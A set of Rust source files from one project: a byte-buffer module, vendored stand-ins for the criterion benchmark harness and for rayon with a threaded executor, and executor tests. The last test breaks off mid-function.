    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "b\"")?;
        for &b in self.iter() {
            if (0x20..0x7f).contains(&b) && b != b'"' && b != b'\\' {
                write!(f, "{}", b as char)?;
            } else {
                write!(f, "\\x{b:02x}")?;
            }
        }
        write!(f, "\"")
    }
}

impl<'a> IntoIterator for &'a Bytes {
    type Item = &'a u8;
    type IntoIter = std::slice::Iter<'a, u8>;
    fn into_iter(self) -> Self::IntoIter {
        self.as_ref().iter()
    }
}

/// Growable byte builder; freeze into [`Bytes`] when done.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct BytesMut {
    buf: Vec<u8>,
}

impl BytesMut {
    /// Empty builder.
    pub fn new() -> BytesMut {
        BytesMut::default()
    }

    /// Empty builder with reserved capacity.
    pub fn with_capacity(cap: usize) -> BytesMut {
        BytesMut {
            buf: Vec::with_capacity(cap),
        }
    }

    /// Convert into an immutable buffer.
    pub fn freeze(self) -> Bytes {
        Bytes::from_vec(self.buf)
    }

    /// Length in bytes.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Append a slice (also available through [`BufMut`]).
    pub fn extend_from_slice(&mut self, s: &[u8]) {
        self.buf.extend_from_slice(s);
    }

    /// Resize, filling with `v`.
    pub fn resize(&mut self, len: usize, v: u8) {
        self.buf.resize(len, v);
    }

    /// Truncate to `len`.
    pub fn truncate(&mut self, len: usize) {
        self.buf.truncate(len);
    }
}

impl Deref for BytesMut {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.buf
    }
}

impl std::ops::DerefMut for BytesMut {
    fn deref_mut(&mut self) -> &mut [u8] {
        &mut self.buf
    }
}

impl AsRef<[u8]> for BytesMut {
    fn as_ref(&self) -> &[u8] {
        &self.buf
    }
}

/// Big/little-endian append operations, implemented for [`BytesMut`] and
/// `Vec<u8>`.
pub trait BufMut {
    /// Append raw bytes.
    fn put_slice(&mut self, src: &[u8]);

    /// Append one byte.
    fn put_u8(&mut self, v: u8) {
        self.put_slice(&[v]);
    }

    /// Append a big-endian u16.
    fn put_u16(&mut self, v: u16) {
        self.put_slice(&v.to_be_bytes());
    }

    /// Append a little-endian u16.
    fn put_u16_le(&mut self, v: u16) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Append a big-endian u32.
    fn put_u32(&mut self, v: u32) {
        self.put_slice(&v.to_be_bytes());
    }

    /// Append a little-endian u32.
    fn put_u32_le(&mut self, v: u32) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Append a big-endian u64.
    fn put_u64(&mut self, v: u64) {
        self.put_slice(&v.to_be_bytes());
    }

    /// Append a little-endian u64.
    fn put_u64_le(&mut self, v: u64) {
        self.put_slice(&v.to_le_bytes());
    }
}

impl BufMut for BytesMut {
    fn put_slice(&mut self, src: &[u8]) {
        self.buf.extend_from_slice(src);
    }
}

impl BufMut for Vec<u8> {
    fn put_slice(&mut self, src: &[u8]) {
        self.extend_from_slice(src);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slices_share_and_compare() {
        let b = Bytes::from(vec![1u8, 2, 3, 4, 5]);
        let s = b.slice(1..4);
        assert_eq!(&s[..], &[2, 3, 4]);
        assert_eq!(s.len(), 3);
        let tail = s.slice(1..);
        assert_eq!(&tail[..], &[3, 4]);
        assert_eq!(b, Bytes::from(vec![1u8, 2, 3, 4, 5]));
        assert_eq!(Bytes::from_static(b"abc"), *b"abc");
    }

    #[test]
    fn builder_roundtrip() {
        let mut m = BytesMut::with_capacity(16);
        m.put_u8(0xAB);
        m.put_u16(0x0102);
        m.put_u16_le(0x0304);
        m.put_u32(0x05060708);
        m.put_u64_le(0x1122334455667788);
        m.put_slice(b"xy");
        let b = m.freeze();
        assert_eq!(
            &b[..],
            &[
                0xAB, 0x01, 0x02, 0x04, 0x03, 0x05, 0x06, 0x07, 0x08, 0x88, 0x77, 0x66, 0x55, 0x44,
                0x33, 0x22, 0x11, b'x', b'y'
            ]
        );
    }

    #[test]
    fn empty_and_default() {
        assert!(Bytes::new().is_empty());
        assert!(Bytes::default().is_empty());
        assert_eq!(Bytes::copy_from_slice(&[9]).to_vec(), vec![9]);
    }

    #[test]
    fn clone_never_copies_payload() {
        let b = Bytes::from(vec![7u8; 64]);
        let c = b.clone();
        assert_eq!(b.as_ptr(), c.as_ptr(), "clone must share the allocation");
        let s = b.slice(8..32);
        assert_eq!(
            s.as_ptr(),
            // Pointer arithmetic through the shared allocation.
            unsafe { b.as_ptr().add(8) },
            "slice must point into the parent allocation"
        );
        drop(b);
        drop(c);
        assert_eq!(&s[..4], &[7, 7, 7, 7], "slice keeps the allocation alive");
    }

    #[test]
    fn from_static_is_zero_copy() {
        static PAYLOAD: [u8; 16] = [3u8; 16];
        let b = Bytes::from_static(&PAYLOAD);
        assert_eq!(b.as_ptr(), PAYLOAD.as_ptr(), "must borrow, not copy");
        let c = b.clone();
        assert_eq!(c.as_ptr(), PAYLOAD.as_ptr());
        assert_eq!(b.slice(4..).as_ptr(), PAYLOAD[4..].as_ptr());
    }
}
