//! Vendored stand-in for the `criterion` benchmark harness.
//!
//! The sandbox has no registry access, so this crate reimplements the
//! slice of criterion's API the benches use: `criterion_group!` /
//! `criterion_main!`, [`Criterion::bench_function`], benchmark groups
//! with [`BenchmarkGroup::throughput`] and [`BenchmarkGroup::sample_size`],
//! and [`Bencher::iter`]. Timing is plain wall-clock sampling — no
//! statistics beyond mean/min/max — which is enough to compare hot paths
//! between commits in this repository.

use std::hint::black_box as std_black_box;
use std::time::Instant;

/// Re-export of `std::hint::black_box` under criterion's name.
pub fn black_box<T>(x: T) -> T {
    std_black_box(x)
}

/// Throughput annotation attached to a benchmark group.
#[derive(Clone, Copy, Debug)]
pub enum Throughput {
    /// Bytes processed per iteration.
    Bytes(u64),
    /// Elements processed per iteration.
    Elements(u64),
}

/// Passed to the measured closure; call [`Bencher::iter`] with the body.
pub struct Bencher {
    samples: u64,
    elapsed_ns: Vec<u64>,
}

impl Bencher {
    /// Time `body`, once per sample, after a short warm-up.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut body: F) {
        for _ in 0..2 {
            std_black_box(body());
        }
        self.elapsed_ns.clear();
        for _ in 0..self.samples {
            let t0 = Instant::now();
            std_black_box(body());
            self.elapsed_ns.push(t0.elapsed().as_nanos() as u64);
        }
    }
}

/// The harness: owns defaults and prints one line per benchmark.
pub struct Criterion {
    sample_size: u64,
}

impl Default for Criterion {
    fn default() -> Criterion {
        Criterion { sample_size: 10 }
    }
}

fn fmt_ns(ns: f64) -> String {
    if ns >= 1e9 {
        format!("{:.3} s", ns / 1e9)
    } else if ns >= 1e6 {
        format!("{:.3} ms", ns / 1e6)
    } else if ns >= 1e3 {
        format!("{:.3} µs", ns / 1e3)
    } else {
        format!("{ns:.0} ns")
    }
}

fn run_one(
    id: &str,
    samples: u64,
    throughput: Option<Throughput>,
    f: &mut dyn FnMut(&mut Bencher),
) {
    let mut b = Bencher {
        samples,
        elapsed_ns: Vec::new(),
    };
    f(&mut b);
    if b.elapsed_ns.is_empty() {
        println!("{id:<40} (no samples)");
        return;
    }
    let n = b.elapsed_ns.len() as f64;
    let mean = b.elapsed_ns.iter().sum::<u64>() as f64 / n;
    let min = *b.elapsed_ns.iter().min().expect("nonempty") as f64;
    let rate = match throughput {
        Some(Throughput::Bytes(bytes)) if mean > 0.0 => {
            format!(
                "  {:>10.1} MiB/s",
                bytes as f64 / (mean / 1e9) / (1024.0 * 1024.0)
            )
        }
        Some(Throughput::Elements(elems)) if mean > 0.0 => {
            format!("  {:>10.0} elem/s", elems as f64 / (mean / 1e9))
        }
        _ => String::new(),
    };
    println!(
        "{id:<40} mean {:>12}  min {:>12}{rate}",
        fmt_ns(mean),
        fmt_ns(min)
    );
}

impl Criterion {
    /// Run a single named benchmark. Accepts `&str` or `String` ids, as
    /// upstream criterion does via `IntoBenchmarkId`.
    pub fn bench_function<S: AsRef<str>, F: FnMut(&mut Bencher)>(
        &mut self,
        id: S,
        mut f: F,
    ) -> &mut Self {
        run_one(id.as_ref(), self.sample_size, None, &mut f);
        self
    }

    /// Open a named benchmark group.
    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            name: name.to_string(),
            sample_size: self.sample_size,
            throughput: None,
            _parent: self,
        }
    }
}

/// A group of related benchmarks sharing throughput/sample settings.
pub struct BenchmarkGroup<'a> {
    name: String,
    sample_size: u64,
    throughput: Option<Throughput>,
    _parent: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Set samples per benchmark in this group.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(1) as u64;
        self
    }

    /// Annotate per-iteration throughput.
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    /// Run one benchmark within the group. Accepts `&str` or `String`
    /// ids, as upstream criterion does via `IntoBenchmarkId`.
    pub fn bench_function<S: AsRef<str>, F: FnMut(&mut Bencher)>(
        &mut self,
        id: S,
        mut f: F,
    ) -> &mut Self {
        let full = format!("{}/{}", self.name, id.as_ref());
        run_one(&full, self.sample_size, self.throughput, &mut f);
        self
    }

    /// Finish the group (marker only; statistics print as benches run).
    pub fn finish(self) {}
}

/// Declare a group function running each target against one [`Criterion`].
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut c = $crate::Criterion::default();
            $( $target(&mut c); )+
        }
    };
}

/// Declare `main` running each group.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            // `cargo bench` passes harness flags (e.g. --bench); ignore them.
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_collects_samples() {
        let mut c = Criterion::default();
        let mut g = c.benchmark_group("g");
        g.sample_size(3).throughput(Throughput::Bytes(1));
        let mut ran = 0u32;
        g.bench_function("count", |b| b.iter(|| ran += 1));
        g.finish();
        assert!(ran >= 3, "warmup + samples must run the body");
    }
}
