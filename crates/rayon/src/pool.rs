//! The global thread pool and the ordered parallel executor.
//!
//! Design (DESIGN.md §9):
//!
//! * **Lazy global pool.** Worker threads are spawned on first parallel
//!   use, never torn down, and grown on demand up to the effective
//!   thread count. Sizing comes from `RAYON_NUM_THREADS`, falling back
//!   to [`std::thread::available_parallelism`]; tests and benches can
//!   override it per scope with [`with_num_threads`].
//! * **Chunked claiming, ordered writing.** Input items live in indexed
//!   slots. Workers claim contiguous chunks from an atomic cursor and
//!   write each result into the slot of its *input* index, so the
//!   collected output is in input order regardless of which thread
//!   finished when. Reductions (`sum`, `collect`) then run sequentially
//!   over that ordered buffer — which is what makes floating-point
//!   results bit-identical to a serial run.
//! * **Caller participation.** The submitting thread works through the
//!   same chunk cursor as the pool workers. Nested `par_iter` calls can
//!   therefore never deadlock: every level makes progress on its own
//!   thread even if all pool workers are busy elsewhere.
//! * **Panic capture.** A panicking closure aborts further chunk claims,
//!   is captured by the executing worker, and is re-thrown on the
//!   calling thread once every outstanding job has drained — the pool
//!   itself survives.

use std::any::Any;
use std::collections::VecDeque;
use std::panic::{self, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Condvar, Mutex, OnceLock};

/// Hard ceiling on pool size; oversubscription beyond this is never useful
/// for the Monte-Carlo workloads this crate drives.
const MAX_THREADS: usize = 64;

type Job = Box<dyn FnOnce() + Send + 'static>;

struct PoolShared {
    queue: Mutex<VecDeque<Job>>,
    job_ready: Condvar,
}

fn shared() -> &'static PoolShared {
    static SHARED: OnceLock<PoolShared> = OnceLock::new();
    SHARED.get_or_init(|| PoolShared {
        queue: Mutex::new(VecDeque::new()),
        job_ready: Condvar::new(),
    })
}

fn lock_queue() -> std::sync::MutexGuard<'static, VecDeque<Job>> {
    shared()
        .queue
        .lock()
        .unwrap_or_else(|poisoned| poisoned.into_inner())
}

fn worker_loop() {
    loop {
        let job = {
            let mut queue = lock_queue();
            loop {
                if let Some(job) = queue.pop_front() {
                    break job;
                }
                queue = shared()
                    .job_ready
                    .wait(queue)
                    .unwrap_or_else(|poisoned| poisoned.into_inner());
            }
        };
        // Jobs are already panic-guarded at the submission site; the extra
        // guard keeps a worker alive even if that invariant is broken.
        let _ = panic::catch_unwind(AssertUnwindSafe(job));
    }
}

/// Grow the pool so at least `n` background workers exist.
fn ensure_workers(n: usize) {
    static SPAWNED: Mutex<usize> = Mutex::new(0);
    let n = n.min(MAX_THREADS);
    let mut spawned = SPAWNED.lock().unwrap_or_else(|p| p.into_inner());
    while *spawned < n {
        std::thread::Builder::new()
            .name(format!("rayon-shim-{spawned}"))
            .spawn(worker_loop)
            .expect("spawn pool worker");
        *spawned += 1;
    }
}

fn submit(job: Job) {
    lock_queue().push_back(job);
    shared().job_ready.notify_one();
}

fn try_pop_job() -> Option<Job> {
    lock_queue().pop_front()
}

/// Per-scope thread-count override; 0 means "use the process default".
static OVERRIDE: AtomicUsize = AtomicUsize::new(0);

fn default_threads() -> usize {
    static DEFAULT: OnceLock<usize> = OnceLock::new();
    *DEFAULT.get_or_init(|| {
        std::env::var("RAYON_NUM_THREADS")
            .ok()
            .and_then(|v| v.trim().parse::<usize>().ok())
            .filter(|&n| n >= 1)
            .unwrap_or_else(|| {
                std::thread::available_parallelism()
                    .map(|n| n.get())
                    .unwrap_or(1)
            })
            .min(MAX_THREADS)
    })
}

/// The number of threads parallel iterators will use right now:
/// the [`with_num_threads`]/[`set_num_threads`] override if one is
/// active, else `RAYON_NUM_THREADS`, else the hardware parallelism.
pub fn current_num_threads() -> usize {
    match OVERRIDE.load(Ordering::Relaxed) {
        0 => default_threads(),
        n => n,
    }
}

/// Set (or with `0` clear) the process-wide thread-count override.
/// Prefer [`with_num_threads`], which scopes and restores it.
pub fn set_num_threads(n: usize) {
    OVERRIDE.store(n.min(MAX_THREADS), Ordering::Relaxed);
}

/// Run `f` with the pool pinned to exactly `n` threads, restoring the
/// previous setting afterwards (panic-safe). Concurrent callers are
/// serialized by a global lock so two scopes can never interleave their
/// overrides; do not nest calls on one thread.
pub fn with_num_threads<R>(n: usize, f: impl FnOnce() -> R) -> R {
    static SCOPE: Mutex<()> = Mutex::new(());
    let _scope = SCOPE.lock().unwrap_or_else(|p| p.into_inner());
    let previous = OVERRIDE.swap(n.clamp(1, MAX_THREADS), Ordering::Relaxed);
    let outcome = panic::catch_unwind(AssertUnwindSafe(f));
    OVERRIDE.store(previous, Ordering::Relaxed);
    match outcome {
        Ok(value) => value,
        Err(payload) => panic::resume_unwind(payload),
    }
}

/// Raw pointer into a slot vector, shareable across worker threads.
/// Soundness: the chunk cursor hands every index to exactly one worker,
/// so all accesses through the pointer are to disjoint elements.
struct SlotPtr<T>(*mut T);
unsafe impl<T: Send> Send for SlotPtr<T> {}
unsafe impl<T: Send> Sync for SlotPtr<T> {}

impl<T> SlotPtr<T> {
    /// Pointer to slot `i`. A method (not field access) so closures
    /// capture the `Sync` wrapper, not the bare raw pointer.
    fn slot(&self, i: usize) -> *mut T {
        unsafe { self.0.add(i) }
    }
}

/// Countdown latch: the caller blocks until every submitted job has run.
struct Latch {
    remaining: Mutex<usize>,
    drained: Condvar,
}

impl Latch {
    fn new(count: usize) -> Latch {
        Latch {
            remaining: Mutex::new(count),
            drained: Condvar::new(),
        }
    }

    fn count_down(&self) {
        let mut remaining = self.remaining.lock().unwrap_or_else(|p| p.into_inner());
        *remaining -= 1;
        if *remaining == 0 {
            self.drained.notify_all();
        }
    }

    /// Block until the count reaches zero — but *help* while blocked:
    /// drain and execute queued jobs instead of sleeping. Without this,
    /// nested parallelism deadlocks: every thread of an outer level can
    /// end up waiting on an inner latch whose jobs sit in the queue with
    /// nobody left to pop them. Helping guarantees global progress — a
    /// waiting thread either runs a job or (briefly) parks, and the
    /// deepest nesting level's jobs never block, so latches drain from
    /// the inside out.
    fn wait_while_helping(&self) {
        loop {
            while let Some(job) = try_pop_job() {
                // Jobs are panic-guarded at the submission site.
                let _ = panic::catch_unwind(AssertUnwindSafe(job));
            }
            let remaining = self.remaining.lock().unwrap_or_else(|p| p.into_inner());
            if *remaining == 0 {
                return;
            }
            // Short timed park: our remaining jobs are running on other
            // threads (possibly themselves helping), so re-check soon.
            let _ = self
                .drained
                .wait_timeout(remaining, std::time::Duration::from_micros(500))
                .unwrap_or_else(|p| p.into_inner());
        }
    }
}

fn record_panic(
    panic_slot: &Mutex<Option<Box<dyn Any + Send>>>,
    abort: &AtomicBool,
    payload: Box<dyn Any + Send>,
) {
    abort.store(true, Ordering::Relaxed);
    panic_slot
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .get_or_insert(payload);
}

/// Apply `op` to every item, in parallel, returning the per-item results
/// **in input order**. `None` results (filtered items) keep their slot so
/// relative order survives the flatten. Panics from `op` are re-thrown
/// here after all workers drain.
pub(crate) fn run_ordered<T, R, F>(items: Vec<T>, min_len: usize, op: F) -> Vec<Option<R>>
where
    T: Send,
    R: Send,
    F: Fn(T) -> Option<R> + Sync,
{
    let len = items.len();
    let threads = current_num_threads();
    let min_len = min_len.max(1);
    if threads <= 1 || len <= min_len {
        return items.into_iter().map(op).collect();
    }

    // Chunks of ~1/4 of a fair share balance stragglers without
    // oversplitting; `with_min_len` floors them for cheap items. The
    // chunk geometry affects only scheduling, never results.
    let chunk = len.div_ceil(threads * 4).max(min_len);
    let n_chunks = len.div_ceil(chunk);
    let helpers = threads.min(n_chunks) - 1;

    let mut input: Vec<Option<T>> = items.into_iter().map(Some).collect();
    let mut output: Vec<Option<R>> = std::iter::repeat_with(|| None).take(len).collect();
    let input_ptr = SlotPtr(input.as_mut_ptr());
    let output_ptr = SlotPtr(output.as_mut_ptr());
    let cursor = AtomicUsize::new(0);
    let abort = AtomicBool::new(false);
    let panic_slot: Mutex<Option<Box<dyn Any + Send>>> = Mutex::new(None);
    let latch = Latch::new(helpers);

    let work = &|| {
        while !abort.load(Ordering::Relaxed) {
            let start = cursor.fetch_add(chunk, Ordering::Relaxed);
            if start >= len {
                break;
            }
            for i in start..(start + chunk).min(len) {
                let item = unsafe { (*input_ptr.slot(i)).take().expect("index claimed twice") };
                let result = op(item);
                unsafe { *output_ptr.slot(i) = result };
            }
        }
    };

    {
        let (latch, abort, panic_slot) = (&latch, &abort, &panic_slot);
        ensure_workers(threads - 1);
        for _ in 0..helpers {
            let job: Box<dyn FnOnce() + Send + '_> = Box::new(move || {
                if let Err(payload) = panic::catch_unwind(AssertUnwindSafe(work)) {
                    record_panic(panic_slot, abort, payload);
                }
                latch.count_down();
            });
            // Lifetime erasure: the latch below blocks until every job has
            // finished, so no job can outlive the borrowed stack state.
            let job: Job = unsafe {
                std::mem::transmute::<Box<dyn FnOnce() + Send + '_>, Box<dyn FnOnce() + Send>>(job)
            };
            submit(job);
        }
        // The caller is worker #0 — guarantees progress even when every
        // pool thread is busy (e.g. nested parallelism).
        if let Err(payload) = panic::catch_unwind(AssertUnwindSafe(work)) {
            record_panic(panic_slot, abort, payload);
        }
    }
    latch.wait_while_helping();

    if let Some(payload) = panic_slot.lock().unwrap_or_else(|p| p.into_inner()).take() {
        panic::resume_unwind(payload);
    }
    output
}
