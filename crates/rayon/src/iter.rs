//! The parallel-iterator surface the experiment drivers use.
//!
//! A [`ParIter`] owns its input items plus a fused per-item operation
//! built up by the adapters (`map`, `filter`, `filter_map`). Nothing
//! runs until a consumer (`collect`, `count`, `sum`) calls into the
//! executor, which applies the fused operation to every item in
//! parallel and hands back results in input order — so consumers see
//! exactly the sequence a serial run would produce.

use crate::pool;

/// A pending parallel computation: items of type `T`, producing values
/// of type `R` (items may be dropped by `filter`/`filter_map`).
pub struct ParIter<'a, T: Send, R: Send> {
    items: Vec<T>,
    /// The fused adapter chain; `None` means the item was filtered out.
    op: Box<dyn Fn(T) -> Option<R> + Sync + 'a>,
    min_len: usize,
}

impl<'a, T: Send + 'a> ParIter<'a, T, T> {
    pub(crate) fn from_vec(items: Vec<T>) -> Self {
        ParIter {
            items,
            op: Box::new(Some),
            min_len: 1,
        }
    }
}

impl<'a, T: Send + 'a, R: Send + 'a> ParIter<'a, T, R> {
    /// Transform every value.
    pub fn map<S, G>(self, g: G) -> ParIter<'a, T, S>
    where
        S: Send + 'a,
        G: Fn(R) -> S + Sync + 'a,
    {
        let op = self.op;
        ParIter {
            items: self.items,
            op: Box::new(move |item| op(item).map(&g)),
            min_len: self.min_len,
        }
    }

    /// Keep only values satisfying `pred` (relative order preserved).
    pub fn filter<P>(self, pred: P) -> ParIter<'a, T, R>
    where
        P: Fn(&R) -> bool + Sync + 'a,
    {
        let op = self.op;
        ParIter {
            items: self.items,
            op: Box::new(move |item| op(item).filter(|value| pred(value))),
            min_len: self.min_len,
        }
    }

    /// Transform and filter in one step.
    pub fn filter_map<S, G>(self, g: G) -> ParIter<'a, T, S>
    where
        S: Send + 'a,
        G: Fn(R) -> Option<S> + Sync + 'a,
    {
        let op = self.op;
        ParIter {
            items: self.items,
            op: Box::new(move |item| op(item).and_then(&g)),
            min_len: self.min_len,
        }
    }

    /// Floor the number of items a worker claims at a time. Use on loops
    /// whose per-item work is too cheap to justify fine-grained chunks;
    /// chunk geometry never affects results, only scheduling.
    pub fn with_min_len(mut self, min_len: usize) -> Self {
        self.min_len = self.min_len.max(min_len.max(1));
        self
    }

    /// Run the computation; results come back in input order.
    fn run(self) -> Vec<R> {
        pool::run_ordered(self.items, self.min_len, self.op)
            .into_iter()
            .flatten()
            .collect()
    }

    /// Collect into any `FromIterator` container, in input order.
    pub fn collect<C: FromIterator<R>>(self) -> C {
        self.run().into_iter().collect()
    }

    /// Number of values surviving the adapter chain.
    pub fn count(self) -> usize {
        self.run().len()
    }

    /// Sum the values. The reduction itself runs sequentially over the
    /// index-ordered buffer, so float sums are bit-identical to serial.
    pub fn sum<S: std::iter::Sum<R>>(self) -> S {
        self.run().into_iter().sum()
    }

    /// Call `g` on every value (order of side effects is unspecified,
    /// as in rayon; the values themselves are produced exactly once).
    pub fn for_each<G>(self, g: G)
    where
        G: Fn(R) + Sync + 'a,
    {
        self.map(g).run();
    }
}
