//! Vendored replacement for `rayon`'s parallel-iterator entry points,
//! with a real multi-threaded executor.
//!
//! The sandbox has no registry access, so this crate reimplements the
//! slice of rayon the experiment drivers use — `par_iter()`,
//! `into_par_iter()`, and the `map` / `filter` / `filter_map` /
//! `collect` / `count` / `sum` / `with_min_len` adapters — on top of a
//! lazily-initialized global `std::thread` pool ([`pool`]).
//!
//! **Determinism contract.** Results are collected in *input order*
//! regardless of which worker finishes when, and reductions run
//! sequentially over that ordered buffer. Combined with the drivers'
//! per-replication `Seed::fork` streams, every experiment table is
//! byte-identical whether it runs on 1 thread or N — the determinism
//! suite (`tests/report_determinism.rs`) proves it.
//!
//! Thread count: `RAYON_NUM_THREADS` overrides the hardware default;
//! [`with_num_threads`] pins it for a scope (tests, scaling benches).

mod iter;
pub mod pool;

pub use pool::{current_num_threads, set_num_threads, with_num_threads};

/// The traits and types the experiment drivers import.
pub mod prelude {
    pub use crate::iter::ParIter;

    /// `into_par_iter()` for any owned iterable (ranges, vectors).
    pub trait IntoParallelIterator: Sized {
        /// The element type.
        type Item: Send;
        /// Materialize the input and hand it to the parallel executor.
        fn into_par_iter<'a>(self) -> ParIter<'a, Self::Item, Self::Item>
        where
            Self::Item: 'a;
    }

    impl<I: IntoIterator> IntoParallelIterator for I
    where
        I::Item: Send,
    {
        type Item = I::Item;
        fn into_par_iter<'a>(self) -> ParIter<'a, I::Item, I::Item>
        where
            I::Item: 'a,
        {
            ParIter::from_vec(self.into_iter().collect())
        }
    }

    /// `par_iter()` for anything iterable by reference (slices, vectors).
    pub trait IntoParallelRefIterator<'data> {
        /// The borrowed element type.
        type Item: Send + 'data;
        /// Parallel iterator over `&self`'s elements.
        fn par_iter(&'data self) -> ParIter<'data, Self::Item, Self::Item>;
    }

    impl<'data, C: ?Sized + 'data> IntoParallelRefIterator<'data> for C
    where
        &'data C: IntoIterator,
        <&'data C as IntoIterator>::Item: Send,
    {
        type Item = <&'data C as IntoIterator>::Item;
        fn par_iter(&'data self) -> ParIter<'data, Self::Item, Self::Item> {
            ParIter::from_vec(self.into_iter().collect())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn ranges_and_slices_iterate_in_order() {
        let doubled: Vec<usize> = (0..5usize).into_par_iter().map(|x| x * 2).collect();
        assert_eq!(doubled, vec![0, 2, 4, 6, 8]);
        let v = vec![10, 20, 30];
        let sum: i32 = v.par_iter().sum();
        assert_eq!(sum, 60);
    }

    #[test]
    fn adapter_chain_matches_sequential() {
        let par: Vec<u64> = (0..1000u64)
            .into_par_iter()
            .filter(|&x| x % 3 == 0)
            .filter_map(|x| (x % 2 == 0).then_some(x * 7))
            .collect();
        let seq: Vec<u64> = (0..1000u64)
            .filter(|&x| x % 3 == 0)
            .filter_map(|x| (x % 2 == 0).then_some(x * 7))
            .collect();
        assert_eq!(par, seq);
    }
}
