//! Vendored stand-in for `rayon`'s parallel-iterator entry points.
//!
//! The sandbox has no registry access, so `par_iter()` and
//! `into_par_iter()` here return ordinary sequential iterators. The
//! experiment drivers were written so replication merging is associative
//! and every world forks its own seed — results are bit-identical
//! whether replications run in parallel or, as here, in order.

/// The traits the experiment drivers import.
pub mod prelude {
    /// `into_par_iter()` for any owned iterable (ranges, vectors).
    pub trait IntoParallelIterator: IntoIterator + Sized {
        /// Sequential stand-in for rayon's parallel iterator.
        fn into_par_iter(self) -> Self::IntoIter {
            self.into_iter()
        }
    }

    impl<I: IntoIterator> IntoParallelIterator for I {}

    /// `par_iter()` for anything iterable by reference (slices, vectors).
    pub trait IntoParallelRefIterator<'data> {
        /// The sequential iterator type.
        type Iter: Iterator;
        /// Sequential stand-in for rayon's borrowed parallel iterator.
        fn par_iter(&'data self) -> Self::Iter;
    }

    impl<'data, C: ?Sized + 'data> IntoParallelRefIterator<'data> for C
    where
        &'data C: IntoIterator,
    {
        type Iter = <&'data C as IntoIterator>::IntoIter;
        fn par_iter(&'data self) -> Self::Iter {
            self.into_iter()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn ranges_and_slices_iterate_in_order() {
        let doubled: Vec<usize> = (0..5usize).into_par_iter().map(|x| x * 2).collect();
        assert_eq!(doubled, vec![0, 2, 4, 6, 8]);
        let v = vec![10, 20, 30];
        let sum: i32 = v.par_iter().sum();
        assert_eq!(sum, 60);
    }
}
