//! Executor contract tests: ordering, edge cases, panic propagation.
//!
//! Every test that pins a thread count goes through `with_num_threads`,
//! which serializes concurrent scopes on a global lock — so these tests
//! stay deterministic under cargo's parallel test runner, and they
//! exercise real multi-threading even on a single-core host (the pool
//! oversubscribes happily; correctness never depends on core count).

use rayon::prelude::*;
use rayon::with_num_threads;
use std::collections::HashSet;
use std::panic;
use std::sync::Mutex;
use std::thread::ThreadId;
use std::time::Duration;

#[test]
fn empty_input_yields_empty_output() {
    for threads in [1, 4] {
        let out: Vec<u32> = with_num_threads(threads, || {
            Vec::<u32>::new().into_par_iter().map(|x| x + 1).collect()
        });
        assert!(out.is_empty());
        let n = with_num_threads(threads, || (0..0u32).into_par_iter().count());
        assert_eq!(n, 0);
    }
}

#[test]
fn single_item_round_trips() {
    for threads in [1, 4] {
        let out: Vec<String> = with_num_threads(threads, || {
            vec![41u32]
                .into_par_iter()
                .map(|x| (x + 1).to_string())
                .collect()
        });
        assert_eq!(out, vec!["42".to_string()]);
    }
}

#[test]
fn input_larger_than_chunk_times_threads() {
    // 10_000 items across 4 threads: the chunk cursor must hand out many
    // more chunks than there are workers, each item exactly once.
    let seq: Vec<u64> = (0..10_000u64).map(|x| x.wrapping_mul(x) ^ 0xA5).collect();
    let par: Vec<u64> = with_num_threads(4, || {
        (0..10_000u64)
            .into_par_iter()
            .map(|x| x.wrapping_mul(x) ^ 0xA5)
            .collect()
    });
    assert_eq!(par, seq);
}

#[test]
fn collect_is_input_ordered_under_sleep_jitter() {
    // Adversarial schedule: later items finish *earlier* (sleep shrinks
    // with index), so any completion-order collection would reverse the
    // tail. The executor must still return input order.
    let participants: Mutex<HashSet<ThreadId>> = Mutex::new(HashSet::new());
    let out: Vec<usize> = with_num_threads(4, || {
        (0..24usize)
            .into_par_iter()
            .map(|i| {
                participants
                    .lock()
                    .unwrap()
                    .insert(std::thread::current().id());
                std::thread::sleep(Duration::from_millis((24 - i) as u64));
                i
            })
            .collect()
    });
    assert_eq!(out, (0..24).collect::<Vec<_>>());
    // With 10+ms of sleep per item the parked workers have ample time to
    // claim chunks: this must not have run on the caller alone.
    assert!(
        participants.lock().unwrap().len() >= 2,
        "expected multiple pool threads to participate"
    );
}

#[test]
fn panicking_closure_propagates_and_pool_survives() {
    let result = panic::catch_unwind(|| {
        with_num_threads(4, || {
            (0..256u32)
                .into_par_iter()
                .map(|i| {
                    if i == 97 {
                        panic!("poisoned replication");
                    }
                    i
                })
                .collect::<Vec<u32>>()
        })
    });
    let payload = result.expect_err("worker panic must propagate to the caller");
    let msg = payload
        .downcast_ref::<&str>()
        .copied()
        .map(str::to_owned)
        .or_else(|| payload.downcast_ref::<String>().cloned())
        .unwrap_or_default();
    assert!(msg.contains("poisoned replication"), "payload: {msg:?}");

    // The pool must not deadlock or lose workers: the next computation
    // over the same pool completes normally.
    let sum: u64 = with_num_threads(4, || (0..1000u64).into_par_iter().sum());
    assert_eq!(sum, 999 * 1000 / 2);
}

#[test]
fn with_min_len_changes_scheduling_not_results() {
    let seq: Vec<u32> = (0..100u32).map(|x| x * 3).collect();
